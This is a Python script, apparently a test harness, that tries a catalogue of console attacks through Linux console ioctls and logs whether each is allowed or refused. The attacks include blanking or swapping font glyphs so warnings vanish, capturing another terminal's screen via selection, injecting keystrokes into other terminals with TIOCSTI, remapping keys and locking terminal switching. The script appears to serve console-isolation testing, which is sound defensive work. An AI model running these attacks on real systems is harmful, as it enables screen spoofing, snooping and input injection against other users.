"""Attacks that a program can try that is logged in on a text console: `terminal.py OUT NAME...`.

Runs inside the machine with the attacker's own virtual terminal as controlling terminal, which is
all the permission that the kernel asks for (console_ioctl(4)). One line a NAME goes to the file OUT:
"NAME through ..." or "NAME refused ...". Only the standard library.
"""

from __future__ import annotations

import array
import fcntl
import os
import select
import struct
import sys
import termios
import time
from collections.abc import Callable
from pathlib import Path

GLYPHS = 512
ROWS = 32
FONT_OP = struct.Struct("IIIIIxxxxP")
KDFONTOP, FONT_SET, FONT_GET = 0x4B72, 0, 1
GIO_UNIMAP, PIO_UNIMAP, PIO_UNIMAPCLR = 0x4B66, 0x4B67, 0x4B68
TIOCLINUX = 0x541C

TTY = os.open("/dev/tty", os.O_RDWR)


def font() -> tuple[int, int, array.array[int]]:
    """Return height, number of glyphs and their pixels, 32 bytes each."""
    data = array.array("B", bytes(GLYPHS * ROWS))
    got = bytearray(FONT_OP.pack(FONT_GET, 0, 8, ROWS, GLYPHS, data.buffer_info()[0]))
    fcntl.ioctl(TTY, KDFONTOP, got)
    _, _, _, height, count, _ = FONT_OP.unpack(got)
    return height, count, data[: count * ROWS]


def set_font(height: int, count: int, data: array.array[int]) -> None:
    packed = FONT_OP.pack(FONT_SET, 0, 8, height, count, data.buffer_info()[0])
    fcntl.ioctl(TTY, KDFONTOP, packed)


def unimap() -> array.array[int]:
    """Return pairs of character and place in the font, one after the other."""
    pairs = array.array("H", bytes(4 * 4096))
    got = bytearray(struct.pack("HxxxxxxP", 4096, pairs.buffer_info()[0]))
    fcntl.ioctl(TTY, GIO_UNIMAP, got)
    return pairs[: 2 * struct.unpack("HxxxxxxP", got)[0]]


def blank_warnings() -> str:
    height, count, data = font()
    at = ord("!") * ROWS
    data[at : at + ROWS] = array.array("B", bytes(ROWS))
    set_font(height, count, data)
    return "the glyph of ! is empty"


def swap_letters() -> str:
    height, count, data = font()
    copy = data[:]
    for number in range(26):
        source, target = (ord("a") + number) * ROWS, (ord("z") - number) * ROWS
        data[target : target + ROWS] = copy[source : source + ROWS]
    set_font(height, count, data)
    return "letters look like others"


def small_font() -> str:
    _, count, data = font()
    set_font(8, count, data)
    return "characters of 8 rows"


def large_font() -> str:
    set_font(16, GLYPHS, array.array("B", bytes(GLYPHS * ROWS)))
    return "512 empty glyphs"


def remap() -> str:
    pairs = unimap()
    for at in range(0, len(pairs), 2):
        if pairs[at] == ord("!"):
            pairs[at + 1] = ord(" ")
    fcntl.ioctl(TTY, PIO_UNIMAPCLR, struct.pack("HHH", 0, 0, 0))
    packed = struct.pack("HxxxxxxP", len(pairs) // 2, pairs.buffer_info()[0])
    fcntl.ioctl(TTY, PIO_UNIMAP, packed)
    return "! is drawn as a blank"


def black() -> str:
    fcntl.ioctl(TTY, 0x4B71, bytes(48))
    return "every colour is black"


def resize(columns: int, rows: int) -> str:
    fcntl.ioctl(TTY, 0x5609, struct.pack("HHH", rows, columns, 0))
    return f"{columns} x {rows}"


def select_screen() -> str:
    """Copy what the terminal in front shows, and paste it into one's own."""
    before = termios.tcgetattr(TTY)
    raw = termios.tcgetattr(TTY)
    raw[3] &= ~(termios.ICANON | termios.ECHO)
    termios.tcsetattr(TTY, termios.TCSANOW, raw)
    try:
        fcntl.ioctl(TTY, TIOCLINUX, b"\x02" + struct.pack("HHHHH", 1, 1, 80, 25, 2))
        fcntl.ioctl(TTY, TIOCLINUX, b"\x03")
        text = b""
        while select.select([TTY], [], [], 0.5)[0]:
            text += os.read(TTY, 4096)
    finally:
        termios.tcsetattr(TTY, termios.TCSANOW, before)
    return ascii(text.decode(errors="replace"))


def push(path: str, text: bytes) -> str:
    fd = TTY if path == "own" else os.open(path, os.O_RDWR | os.O_NOCTTY)
    for byte in text:
        fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
    if path == "own":
        termios.tcflush(TTY, termios.TCIFLUSH)
    return "typed"


def ask(request: int, argument: bytes | int) -> Callable[[], str]:
    def attack() -> str:
        fcntl.ioctl(TTY, request, argument)
        return "done"

    return attack


def write(text: str) -> Callable[[], str]:
    def attack() -> str:
        os.write(TTY, text.encode())
        return "written"

    return attack


ATTACKS: dict[str, Callable[[], str]] = {
    "font-blank": blank_warnings,
    "font-swapped": swap_letters,
    "font-small": small_font,
    "font-512": large_font,
    "unimap": remap,
    "palette": black,
    "size-20x10": lambda: resize(20, 10),
    "size-160x25": lambda: resize(160, 25),
    "size-80x100": lambda: resize(80, 100),
    "size-80x24": lambda: resize(80, 24),
    "selection": select_screen,
    "sti-own": lambda: push("own", b"x"),
    "sti-tty8": lambda: push("/dev/tty8", b"kr"),
    "sti-tty0": lambda: push("/dev/tty0", b"kr"),
    "keymap": ask(0x4B47, struct.pack("BBH", 0, 30, 0x0B62)),  # KDSKBENT: the key a gives b
    "keycode": ask(0x4B4D, struct.pack("II", 30, 48)),  # KDSETKEYCODE
    "function-key": ask(0x4B49, b"\x00kr" + bytes(510)),  # KDSKBSENT
    "key-repeat": ask(0x4B52, struct.pack("ii", 250, 1)),  # KDKBDREP
    "lock-switching": ask(0x560B, 0),  # VT_LOCKSWITCH
    "free-terminal-8": ask(0x5608, 8),  # VT_DISALLOCATE
    "output-to-me": ask(0x541D, 0),  # TIOCCONS
    "blank-now": ask(TIOCLINUX, b"\x0e"),  # TIOCL_BLANKSCREEN
    "screen-map": ask(0x4B6A, struct.pack("256H", *([0x20] * 256))),  # PIO_UNISCRNMAP
    "own-mode-off": ask(0x4B45, 4),  # KDSKBMODE, K_OFF
    "own-mode-back": ask(0x4B45, 3),
    "own-graphics": ask(0x4B3A, 1),  # KDSETMODE, KD_GRAPHICS
    "own-text": ask(0x4B3A, 0),
    "front-8": ask(0x5606, 8),  # VT_ACTIVATE
    "front-1": ask(0x5606, 1),
    "front-by-escape": write("\x1b[12;1]"),
    "reset": write("\x1bc"),
}


def main() -> None:
    out = Path(sys.argv[1]).open("w", buffering=1)  # noqa: SIM115 - open as long as this runs
    for name in sys.argv[2:]:
        if name.startswith("wait-"):
            time.sleep(float(name.removeprefix("wait-")))
            continue
        try:
            print(name, "through", ATTACKS[name](), file=out)
        except OSError as error:
            print(name, "refused", error.strerror, file=out)
    print("end", file=out)


if __name__ == "__main__":
    main()
